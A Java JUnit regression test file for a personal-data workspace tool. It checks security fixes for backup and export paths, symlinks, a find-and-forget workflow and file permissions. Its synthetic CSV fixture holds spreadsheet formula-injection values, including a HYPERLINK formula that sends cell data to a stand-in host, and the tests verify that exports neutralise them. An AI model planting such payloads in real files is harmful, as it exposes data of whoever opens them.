package org.tumen.app;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.nio.file.attribute.PosixFilePermissions;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.Optional;
import java.util.stream.Stream;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.tumen.app.CliRun.Run;
import org.tumen.model.Progress;
import org.tumen.store.Workspace;
import org.tumen.store.protect.Argon2Cost;
import org.tumen.store.protect.Protection;

/**
 * Regression tests for issue 12 (an attack on the workspace): findings 4 (outputs inside the
 * workspace), 8 (spreadsheet formulas in exports), 12 (finding whom to forget) and the files'
 * permissions (Low), through the real command line. Synthetic data; cheap Argon2id keys.
 */
class WorkspaceOutputsIssue12Test {

  @TempDir Path dir;
  Path ws;
  Path pass;

  Run tumen(String... args) {
    return CliRun.inWorkspace(ws, pass, args);
  }

  @BeforeEach
  void workspaceWithTwoLists() throws Exception {
    ws = dir.resolve("ws");
    pass = dir.resolve("pass.txt");
    Files.writeString(pass, "synthetic test passphrase\n");
    Path a = dir.resolve("church-a.csv");
    Files.writeString(
        a,
        "번호,성명,성별,생년월일,비고\n"
            + "K1,리영철,남,1972-05-14,\"=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"click\"\")\"\n"
            + "K2,김순희,여,1980,@SUM(1+1)\n"
            + "K3,리영철,남,1990,-2+3\n",
        StandardCharsets.UTF_8);
    Path b = dir.resolve("church-b.csv");
    Files.writeString(
        b, "id,name,birth_date\nB7,Ri Yong Chol,1972\nB8,李英哲,1972-05\nB9,Pak Chol,1972\n");
    try (Workspace w = Workspace.open(ws, Optional.empty())) {
      Protection p =
          Protection.initialise(
              w, "synthetic test passphrase".toCharArray(), new Argon2Cost(64, 1, 1));
      for (Path list : List.of(a, b)) {
        String name = list.getFileName().toString().replace(".csv", "");
        w.importer().importList(name, list, null, Map.of(), Progress.NONE);
      }
    }
  }

  // Finding 4: backup --out silently overwrote the workspace's own files.

  @Test
  void finding4BackupOutOntoTheKeyFileIsRefusedAndTheKeysSurvive() throws Exception {
    byte[] keys = Files.readAllBytes(ws.resolve("keys.tumen"));
    for (String inside : List.of("keys.tumen", "tumen.mv.db", "audit.anchor", "new.backup")) {
      Run r = tumen("backup", "--out", ws.resolve(inside).toString());
      assertThat(r.status()).as(inside + ": " + r.err()).isEqualTo(2);
      assertThat(r.err().lines()).hasSize(1);
      assertThat(r.err()).contains("inside the workspace");
    }
    // --force replaces a file outside the workspace, never one inside it.
    Run forced = tumen("backup", "--out", ws.resolve("keys.tumen").toString(), "--force");
    assertThat(forced.status()).isEqualTo(2);
    assertThat(forced.err()).contains("inside the workspace");
    assertThat(Files.readAllBytes(ws.resolve("keys.tumen"))).isEqualTo(keys);
    assertThat(ws.resolve("new.backup")).doesNotExist();
    assertThat(tumen("audit", "verify").status()).isZero();
  }

  @Test
  void finding4AWayIntoTheWorkspaceThroughALinkIsInsideToo() throws Exception {
    Path link = Files.createSymbolicLink(dir.resolve("elsewhere"), ws);
    Run r = tumen("backup", "--out", link.resolve("keys.tumen").toString());
    assertThat(r.status()).isEqualTo(2);
    assertThat(r.err()).contains("inside the workspace");
    Run e = tumen("export", "--out", link.resolve("export").toString());
    assertThat(e.status()).isEqualTo(2);
  }

  @Test
  void finding4BackupOutOntoAnExistingFileNeedsForce() throws Exception {
    Path existing = dir.resolve("old.backup");
    Files.writeString(existing, "an older backup");
    Run r = tumen("backup", "--out", existing.toString());
    assertThat(r.status()).isEqualTo(2);
    assertThat(r.err()).contains("already exists").contains("--force");
    assertThat(Files.readString(existing)).isEqualTo("an older backup");
    Run forced = tumen("backup", "--out", existing.toString(), "--force");
    assertThat(forced.status()).as(forced.err()).isZero();
    assertThat(Files.readString(existing, StandardCharsets.ISO_8859_1)).startsWith("TUMEN-BACKUP");
  }

  @Test
  void finding4ExportOutInsideTheWorkspaceIsRefusedAndWritesNothing() {
    Run r = tumen("export", "--out", ws.resolve("plain").toString(), "--with-identities");
    assertThat(r.status()).isEqualTo(2);
    assertThat(r.err()).contains("inside the workspace");
    assertThat(ws.resolve("plain")).doesNotExist();
  }

  // Finding 8: formulas from organisations' notes reached exports as formulas.

  @Test
  void finding8ExportedNotesAreTextNotFormulas() throws Exception {
    Run r = tumen("export", "--out", dir.resolve("full").toString(), "--with-identities");
    assertThat(r.status()).as(r.err()).isZero();
    List<String> cells = new ArrayList<>();
    try (var parser =
        org.apache.commons.csv.CSVParser.parse(
            dir.resolve("full/identities.csv"),
            StandardCharsets.UTF_8,
            org.apache.commons.csv.CSVFormat.DEFAULT)) {
      parser.forEach(rec -> rec.forEach(cells::add));
    }
    assertThat(cells)
        .contains("'=HYPERLINK(\"http://x.example/?\"&A1,\"click\")", "'@SUM(1+1)", "'-2+3")
        .noneMatch(c -> !c.isEmpty() && "=+@\t\r".indexOf(c.charAt(0)) >= 0);
  }

  // Finding 12: no way to find whom to forget; the README's forget P-... failed.

  @Test
  void finding12FindByNameInAnyScriptPrintsPersonIdsOnlyAndIsAudited() throws Exception {
    Run r = tumen("find", "--name", "리영철", "--born", "1972");
    assertThat(r.status()).as(r.err()).isZero();
    List<String> lines = r.out().lines().toList();
    assertThat(lines.get(0)).isEqualTo("person\tlist\trecord");
    // 리영철 of 1972 in church-a, Ri Yong Chol and 李英哲 in church-b; not the 1990 namesake,
    // not Pak Chol, not 김순희.
    assertThat(lines.subList(1, lines.size()))
        .extracting(l -> l.split("\t")[1] + " " + l.split("\t")[2])
        .containsExactlyInAnyOrder("church-a K1", "church-b B7", "church-b B8");
    assertThat(lines.subList(1, lines.size())).allMatch(l -> l.matches("P-\\d+\t\\S+\t\\S+"));
    assertThat(r.out()).doesNotContain("리영철", "Ri Yong", "李", "1972");

    String show = tumen("audit", "show").out();
    assertThat(show).contains("\tfind\tby name and birth date\tmatches=3 persons=P-");
    assertThat(show).contains("purpose=" + FindCommand.PURPOSE).doesNotContain("리영철");
  }

  @Test
  void finding12FindByListAndRecordThenForgetTheIdAsPrinted() throws Exception {
    Run r = tumen("find", "--list", "church-b", "--record", "B9");
    assertThat(r.status()).as(r.err()).isZero();
    String person = r.out().lines().skip(1).findFirst().orElseThrow().split("\t")[0];
    assertThat(person).matches("P-\\d+");
    assertThat(tumen("audit", "show").out()).contains("\tfind\tlist church-b record B9\tmatches=1");

    Run forget = tumen("forget", person);
    assertThat(forget.status()).as(forget.err()).isZero();
    assertThat(forget.out()).contains("person " + person + " forgotten");
    // The tombstone keeps no list record id (a list's holder must not learn who withdrew
    // consent), so the record is no longer found by it.
    assertThat(tumen("find", "--list", "church-b", "--record", "B9").out())
        .isEqualTo("no record matches\n");
    assertThat(tumen("find", "--name", "Pak Chol").out()).isEqualTo("no record matches\n");
  }

  @Test
  void finding12ASurnameAloneOrAMalformedIdIsBadInput() {
    assertThat(tumen("find", "--name", "Kim").status()).isEqualTo(2);
    Run bad = tumen("forget", "P-x1");
    assertThat(bad.status()).isEqualTo(2);
    assertThat(bad.err()).contains("not a person id").doesNotContain("Exception");
  }

  // Low: workspace files, backups and exports were created 0644 in a 0755 folder.

  @Test
  void filesTumenMakesAreOwnerOnlyWhateverTheUmask() throws Exception {
    assertThat(tumen("backup", "--out", dir.resolve("b.backup").toString()).status()).isZero();
    assertThat(tumen("export", "--out", dir.resolve("exp").toString()).status()).isZero();
    assertThat(mode(ws)).isEqualTo("rwx------");
    try (Stream<Path> files = Files.list(ws)) {
      files.forEach(f -> assertThat(mode(f)).as(f.toString()).isEqualTo("rw-------"));
    }
    assertThat(mode(dir.resolve("b.backup"))).isEqualTo("rw-------");
    assertThat(mode(dir.resolve("exp"))).isEqualTo("rwx------");
    try (Stream<Path> files = Files.list(dir.resolve("exp"))) {
      files.forEach(f -> assertThat(mode(f)).as(f.toString()).isEqualTo("rw-------"));
    }
    // A backup's missing folder is made, owner-only.
    assertThat(tumen("backup", "--out", dir.resolve("out/b.backup").toString()).status()).isZero();
    assertThat(mode(dir.resolve("out"))).isEqualTo("rwx------");
    assertThat(mode(dir.resolve("out/b.backup"))).isEqualTo("rw-------");
  }

  static String mode(Path p) {
    try {
      return PosixFilePermissions.toString(Files.getPosixFilePermissions(p));
    } catch (java.io.IOException e) {
      throw new java.io.UncheckedIOException(e);
    }
  }
}
